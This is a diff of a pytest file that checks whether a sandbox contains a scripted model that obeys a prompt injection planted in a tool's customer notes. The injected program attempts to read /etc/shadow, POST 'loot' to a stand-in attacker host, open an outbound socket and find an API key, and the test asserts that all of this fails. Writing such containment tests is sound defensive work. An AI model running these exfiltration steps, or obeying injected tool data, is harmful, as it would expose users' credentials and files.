@@ -1,7 +1,9 @@
 """A prompt injection in a tool's data steers the (scripted) model; the program it writes stays contained.
 
 The replay model obeys the injection literally: its program reads /etc/shadow, tries to reach the
-network, and looks for the worker's OPENAI_API_KEY, then prints everything it got. None of it may work.
+network (a name under .invalid, and an address this test run owns: tests/owned_targets.py), and
+looks for the worker's OPENAI_API_KEY, then prints everything it got. None of it may work, and
+nothing may arrive at the owned address.
 """
 
 from __future__ import annotations
@@ -39,13 +41,13 @@ except Exception as e:
     found["shadow"] = "error: " + type(e).__name__
 
 try:
-    urllib.request.urlopen("http://evil.example/collect", data=b"loot", timeout=3)
+    urllib.request.urlopen("http://evil.sandfleet.invalid/collect", data=b"loot", timeout=3)
     found["http"] = "sent"
 except Exception as e:
     found["http"] = "error: " + type(e).__name__
 
 try:
-    with socket.create_connection(("1.1.1.1", 80), timeout=3) as s:
+    with socket.create_connection(("OUTSIDE_ADDRESS", 80), timeout=3) as s:
         s.sendall(b"GET / HTTP/1.0\r\n\r\n")
         found["socket"] = "connected"
 except Exception as e:
@@ -77,7 +79,12 @@ def host_shadow_lines() -> list[str]:
 
 @pytest.mark.parametrize("backend", ["docker", "gvisor"])
 def test_an_injected_instruction_leads_to_a_contained_program(
-    backend: str, engine_services: Any, replay: Any, monkeypatch: pytest.MonkeyPatch, request: Any
+    backend: str,
+    engine_services: Any,
+    replay: Any,
+    owned_targets: Any,
+    monkeypatch: pytest.MonkeyPatch,
+    request: Any,
 ) -> None:
     if backend == "gvisor":
         request.getfixturevalue("gvisor")  # skips locally (fails in CI) when runsc is not registered
@@ -86,11 +93,17 @@ def test_an_injected_instruction_leads_to_a_contained_program(
         {
             "rules": [
                 # The model "reads" the notes and obeys them: the program is what the injection asks for.
-                {"match": "customer notes", "responses": [python_block(OBEDIENT_PROGRAM)]},
+                {
+                    "match": "customer notes",
+                    "responses": [
+                        python_block(OBEDIENT_PROGRAM.replace("OUTSIDE_ADDRESS", owned_targets.public_v4))
+                    ],
+                },
             ]
         }
     )
     spec = job("Summarise the customer notes.", tools=["customer_notes"], sandbox={"backend": backend})
+    mark = owned_targets.mark()
     result = run(spec, engine_services, server)
 
     assert result.status == JobStatus.SUCCEEDED, result.error
@@ -99,6 +112,7 @@ def test_an_injected_instruction_leads_to_a_contained_program(
     assert found["told"] is True  # the injection did reach the program as data
     assert found["shadow"] == "error: PermissionError"
     assert found["http"].startswith("error: ") and found["socket"].startswith("error: ")
+    assert owned_targets.arrived_since(mark) == {}  # had the socket got out, it would have come here
     assert found["env_key"] is None and found["proc_environ"] == []
     everything = json.dumps(result.model_dump(mode="json"))
     assert FAKE_KEY not in everything
